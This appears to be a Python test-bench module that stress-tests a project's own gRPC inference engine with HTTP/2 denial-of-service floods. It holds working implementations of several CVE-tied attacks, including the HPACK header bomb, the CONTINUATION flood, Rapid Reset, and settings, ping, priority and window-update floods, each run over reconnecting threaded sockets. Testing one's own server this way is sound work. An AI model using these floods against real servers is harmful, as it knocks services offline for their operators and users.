"""Frames of HTTP/2 that cost a sender next to nothing: headers that unpack, resets, what has to be acknowledged.

Each flood goes over a few connections for as long as the attack lasts; a connection that the engine gives up is opened
again, so that what it costs to be refused counts too.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence

from tests.bench.attack import wire
from tests.bench.attack.wire import PREDICT, Target
from tests.bench.rows import Row
from tests.support.clients.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    WINDOW_UPDATE,
    call_frames,
    call_headers,
    frame,
    settings,
)

Rows = Sequence[Row]
SENDERS = 4
RST_STREAM, PRIORITY, CONTINUATION = 3, 2, 9
HEADER_TABLE_SIZE, INITIAL_WINDOW = 1, 4
LARGEST_WINDOW = 2**31 - 1
CANCEL = (8).to_bytes(4, "big")
BEGIN = PREFACE + frame(SETTINGS, 0, 0)
INTO_TABLE, FROM_TABLE = b"\x40", b"\xbe"
ODD = range(1, 2**31, 2)


def packed_headers(target: Target) -> Rows:
    """A field of 4,000 bytes in a connection's table, and 16,000 references to it in each call (CVE-2016-6581)."""

    def frames() -> Iterator[bytes]:
        field = INTO_TABLE + b"\x01a" + b"\x7f\xa1\x1e" + b"v" * 4000
        block = call_headers(PREDICT) + field
        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block)
        for stream in ODD[1:]:
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(PREDICT) + FROM_TABLE * 16_000)

    return _flood(target, frames)


def endless_headers(target: Target) -> Rows:
    """Headers that go on from CONTINUATION to CONTINUATION (CVE-2024-27316)."""

    def frames() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, call_headers(PREDICT))
        field = b"\0\x01a\x7f\x81\x7b" + b"v" * 15872
        yield from itertools.repeat(frame(CONTINUATION, 0, 1, field))

    return _flood(target, frames)


def empty_continuations(target: Target) -> Rows:
    """The same without a byte in any of them."""

    def frames() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, call_headers(PREDICT))
        yield from itertools.repeat(frame(CONTINUATION, 0, 1) * 1000)

    return _flood(target, frames)


def many_fields(target: Target) -> Rows:
    """Calls with 1,500 fields of a few bytes, each of which takes the place of another in the connection's table."""
    fields = b"".join(INTO_TABLE + b"\x02" + bytes((97 + n % 26, 97 + n // 26 % 26)) + b"\x01v" for n in range(1500))

    def frames() -> Iterator[bytes]:
        for stream in ODD:
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(PREDICT) + fields)

    return _flood(target, frames, reads=True)


def slow_resets(target: Target) -> Rows:
    """Calls of a slow model that are reset a moment after they were queued (CVE-2023-44487)."""
    request = wire.predict_request("slow", (1,), bytes(4))

    def frames() -> Iterator[bytes]:
        for first in range(0, 2**29, 100):
            streams = ODD[first : first + 100]
            yield b"".join(call_frames(stream, PREDICT, request) for stream in streams)
            time.sleep(0.002)
            yield b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)

    return _flood(target, frames)


def resets_by_the_engine(target: Target) -> Rows:
    """Calls that the engine itself has to reset, since their windows are made too large (CVE-2025-8671)."""

    def frames() -> Iterator[bytes]:
        for stream in ODD:
            head = frame(HEADERS, END_HEADERS, stream, call_headers(PREDICT))
            yield head + frame(WINDOW_UPDATE, 0, stream, LARGEST_WINDOW.to_bytes(4, "big"))

    return _flood(target, frames)


def flood_of_settings(target: Target) -> Rows:
    """SETTINGS that all have to be acknowledged, and nobody who reads that (CVE-2019-9515)."""
    return _flood(target, lambda: itertools.repeat(frame(SETTINGS, 0, 0) * 1000))


def flood_of_windows(target: Target) -> Rows:
    """A thousand open calls, and SETTINGS that change the window of each of them again and again."""

    def frames() -> Iterator[bytes]:
        yield b"".join(frame(HEADERS, END_HEADERS, stream, call_headers(PREDICT)) for stream in ODD[:1000])
        both = settings({INITIAL_WINDOW: 0}) + settings({INITIAL_WINDOW: LARGEST_WINDOW})
        yield from itertools.repeat(both * 500)

    return _flood(target, frames)


def flood_of_tables(target: Target) -> Rows:
    """SETTINGS that change the size of the table of headers."""
    both = settings({HEADER_TABLE_SIZE: 0}) + settings({HEADER_TABLE_SIZE: 2**32 - 1})
    return _flood(target, lambda: itertools.repeat(both * 500))


def flood_of_pings(target: Target) -> Rows:
    """PING after PING, and nobody who reads the answers (CVE-2019-9512)."""
    return _flood(target, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 1000))


def flood_of_room(target: Target) -> Rows:
    """WINDOW_UPDATE of one byte for a connection, until that is too much, and for calls that there are not."""

    def frames() -> Iterator[bytes]:
        yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 1000)

    return _flood(target, frames)


def no_room(target: Target) -> Rows:
    """WINDOW_UPDATE of zero bytes, which is an error, on connection after connection."""
    return _flood(target, lambda: itertools.repeat(frame(WINDOW_UPDATE, 0, 0, bytes(4))))


def flood_of_priorities(target: Target) -> Rows:
    """PRIORITY of streams that were never opened, each depending on the one before (CVE-2019-9513)."""

    def frames() -> Iterator[bytes]:
        for first in range(0, 2**29, 500):
            streams = ODD[first : first + 500]
            yield b"".join(frame(PRIORITY, 0, one, max(0, one - 2).to_bytes(4, "big") + b"\xff") for one in streams)

    return _flood(target, frames)


def empty_data(target: Target) -> Rows:
    """One call whose body is DATA without a byte, for ever (CVE-2019-9518)."""

    def frames() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
        yield from itertools.repeat(frame(DATA, 0, 1) * 1000)

    return _flood(target, frames)


def data_by_the_byte(target: Target) -> Rows:
    """A message of 60 MB that comes in DATA of one byte each, in a thousand calls."""

    def frames() -> Iterator[bytes]:
        streams = ODD[:1000]
        yield b"".join(frame(HEADERS, END_HEADERS, stream, call_headers(PREDICT)) for stream in streams)
        yield b"".join(frame(DATA, 0, stream, b"\0" + (60 << 20).to_bytes(4, "big")) for stream in streams)
        for _ in range(60):
            yield from (frame(DATA, 0, stream, b"\x0a") * 100 for stream in streams)

    return _flood(target, frames)


def answers_by_the_byte(target: Target) -> Rows:
    """Answers of 400 kB, a hundred over each connection, with room for a byte at a time (CVE-2019-9511)."""
    request = wire.predict_request("large", (1,), bytes(4))

    def frames() -> Iterator[bytes]:
        streams = ODD[:100]
        yield settings({INITIAL_WINDOW: 0})
        yield b"".join(call_frames(stream, PREDICT, request) for stream in streams)
        room = (frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big")) for stream in streams)
        yield from itertools.repeat(b"".join(room) * 20)

    return _flood(target, frames, reads=True)


def _flood(target: Target, frames: Callable[[], Iterable[bytes]], *, reads: bool = False) -> Rows:
    """Sends them over several connections at a time; what comes is thrown away where it is read at all."""
    counts = [0] * SENDERS

    def send(place: int) -> None:
        while time.monotonic() < target.until:
            with contextlib.suppress(OSError), wire.connect(target.grpc, 2) as one:
                one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                one.sendall(BEGIN)
                if reads:
                    threading.Thread(target=_read, args=(one,), daemon=True).start()
                for data in frames():
                    one.sendall(data)
                    counts[place] += len(data)
                    if time.monotonic() > target.until:
                        break

    threads = [threading.Thread(target=send, args=(place,)) for place in range(SENDERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return ()


def _read(one: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while one.recv(wire.MEGABYTE):
            continue
